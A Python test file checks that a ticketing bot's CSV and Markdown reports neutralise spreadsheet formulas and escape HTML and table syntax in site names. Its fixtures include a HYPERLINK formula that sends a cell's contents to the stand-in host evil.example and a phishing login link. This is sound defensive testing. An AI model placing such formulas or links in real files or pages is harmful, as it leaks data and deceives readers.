"""`frontline report` as Markdown and CSV: a site or engineer name is shown as written, and
never reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io
import re

from bot import report_cli
from storage.models import Ticket
from tests.reporting.history import utc
from tests.reporting.test_cli_and_cron import cli

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"一号园区")'
PHISH = '<a href="http://evil.example/login">点此查看</a>'


async def test_a_csv_report_never_hands_a_spreadsheet_a_formula(app, settings, history):
    async with app.db.transaction() as tx:
        tx.add(Ticket(reporter_id=history["李明"], site=FORMULA, description="x", status="new",
                      created_at=utc(10, 10), updated_at=utc(10, 10),
                      response_due=utc(10, 11), resolve_due=utc(10, 12)))
    args = cli().parse_args(["report", "--period", "2026-10", "--format", "csv"])
    rows = list(csv.reader(io.StringIO(await report_cli.report_text(settings, args,
                                                                    app.clock))))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.]+", c)]


async def test_a_markdown_report_shows_names_as_written(app, settings, history):
    async with app.db.transaction() as tx:
        tx.add(Ticket(reporter_id=history["李明"], site=f"{PHISH}|*粗*", description="x",
                      status="new", created_at=utc(10, 10), updated_at=utc(10, 10),
                      response_due=utc(10, 11), resolve_due=utc(10, 12)))
    args = cli().parse_args(["report", "--period", "2026-10", "--format", "markdown"])
    text = await report_cli.report_text(settings, args, app.clock)
    assert re.search(r"(?<!\\)[<>]", text) is None  # every angle bracket escaped
    assert "\\<a href=\"http://evil.example/login\"\\>" in text
    assert "\\|\\*粗\\*" in text  # the table keeps its columns, nothing turns bold
